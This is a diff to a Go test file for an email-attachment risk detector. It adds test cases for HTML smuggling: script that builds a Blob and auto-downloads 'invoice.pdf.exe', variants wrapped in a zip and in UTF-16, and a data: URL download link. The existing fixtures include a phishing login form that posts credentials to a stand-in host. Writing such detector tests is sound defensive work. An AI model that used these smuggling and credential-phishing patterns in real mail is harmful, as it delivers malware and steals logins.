@@ -59,11 +59,31 @@ func zipOf(t *testing.T, encrypted bool, names ...string) []byte {
 	return buf.Bytes()
 }
 
+// zipWith builds a zip archive of one member with the given content.
+func zipWith(t *testing.T, name string, data []byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, err := zw.Create(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Write(data); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
 func TestAttachRisk(t *testing.T) {
 	loginPage := []byte(`<html><body><img src="https://cdn.example.net/logo.png"><form action="https://collect.example.net/p.php" method="post">` +
 		`<input name="email"><input type="password" name="senha"></form></body></html>`)
 	svgScript := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example.net/?e="+atob("YQ==")</script></svg>`)
 	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
+	smuggling := []byte(`<html><body><script>var b=new Blob([Uint8Array.from(atob("TVqQAAMAAAAEAAAA"),c=>c.charCodeAt(0))]);` +
+		`var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.pdf.exe";a.click()</script></body></html>`)
 	ics := []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Reunião de equipa\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
 	tests := []struct {
 		name string
@@ -78,6 +98,27 @@ func TestAttachRisk(t *testing.T) {
 			return mixed("Voicemail <noreply@voice-msg.example>", "New voicemail (0:42)",
 				"You have a new voice message. Open the attachment to listen.", attachment{"VM_0042.svg", "image/svg+xml", svgScript})
 		}, []string{AttachHTML, AttachHTMLActive}},
+		{"en: HTML smuggling page in a zip", func(t *testing.T) []byte {
+			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
+				"Please find the invoice attached.", attachment{"invoice.zip", "application/zip", zipWith(t, "invoice.html", smuggling)})
+		}, []string{AttachHTML, AttachHTMLActive}},
+		{"en: HTML smuggling page in UTF-16", func(*testing.T) []byte {
+			var page []byte
+			for _, r := range "\ufeff" + string(smuggling) {
+				page = append(page, byte(r), byte(r>>8))
+			}
+			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
+				"Please find the invoice attached.", attachment{"invoice.html", "text/html", page})
+		}, []string{AttachHTML, AttachHTMLActive}},
+		{"en: a file smuggled in a data: URL with no script", func(*testing.T) []byte {
+			page := []byte(`<html><body><a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="invoice.pdf.exe">Download your invoice</a></body></html>`)
+			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
+				"Please find the invoice attached.", attachment{"invoice.html", "text/html", page})
+		}, []string{AttachHTML, AttachHTMLActive}},
+		{"en: a saved receipt page with a data: picture is static", func(*testing.T) []byte {
+			page := []byte(`<html><body><img src="data:image/png;base64,iVBORw0KGgo="><p>Order 1187: 2 books, 31.90 EUR</p></body></html>`)
+			return mixed("Ana <ana@example.com>", "receipt", "The receipt you asked for.", attachment{"receipt.html", "text/html", page})
+		}, []string{AttachHTML}},
 		{"de: encrypted zip with the password", func(t *testing.T) []byte {
 			return mixed("Buchhaltung <rechnung@firma-abrechnung.example>", "Rechnung 2026-1187",
 				"Guten Tag,\r\nanbei die Rechnung. Passwort: 1187", attachment{"Rechnung_1187.zip", "application/zip", zipOf(t, true, "Rechnung_1187.pdf.js")})
